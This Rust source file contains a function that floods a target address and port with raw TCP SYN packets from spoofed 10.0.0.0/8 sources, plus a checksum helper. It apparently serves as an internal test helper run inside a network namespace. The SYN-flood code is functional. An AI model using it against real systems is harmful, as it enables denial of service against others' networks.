//! A flood of SYNs with sources that nobody has.

use std::net::Ipv4Addr;
use std::os::fd::AsRawFd as _;

use anyhow::Result;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

/// Sends one SYN from each of `count` addresses of 10.0.0.0/8, from the calling thread's namespace; how many went out.
pub(crate) fn syns(to: Ipv4Addr, port: u16, count: u32) -> Result<u32> {
    let socket = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), Some(SockProtocol::Raw))?;
    let peer = SockaddrIn::from(std::net::SocketAddrV4::new(to, 0));
    let mut packet = [0_u8; 40];
    packet[0] = 0x45;
    packet[8] = 64;
    packet[9] = 6;
    packet[16..20].copy_from_slice(&to.octets());
    packet[22..24].copy_from_slice(&port.to_be_bytes());
    packet[32] = 5 << 4;
    packet[33] = 2;
    packet[34..36].copy_from_slice(&[0xff, 0xff]);
    let mut sent = 0;
    for n in 0..count {
        // An odd number times n visits every address once.
        let source = 10 << 24 | n.wrapping_mul(7_919) & 0x00ff_ffff;
        packet[12..16].copy_from_slice(&source.to_be_bytes());
        packet[20..22].copy_from_slice(&(1024 + (n % 60_000) as u16).to_be_bytes());
        packet[24..28].copy_from_slice(&n.wrapping_mul(2_654_435_761).to_be_bytes());
        packet[36..38].copy_from_slice(&[0, 0]);
        let sum = checksum(&packet);
        packet[36..38].copy_from_slice(&sum.to_be_bytes());
        if sendto(socket.as_raw_fd(), &packet, &peer, MsgFlags::empty()).is_ok() {
            sent += 1;
        }
    }
    Ok(sent)
}

/// Of the TCP header behind an IPv4 header without options (RFC 9293 §3.1).
fn checksum(packet: &[u8; 40]) -> u16 {
    let words = packet[12..].chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum: u32 = words.sum::<u32>() + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
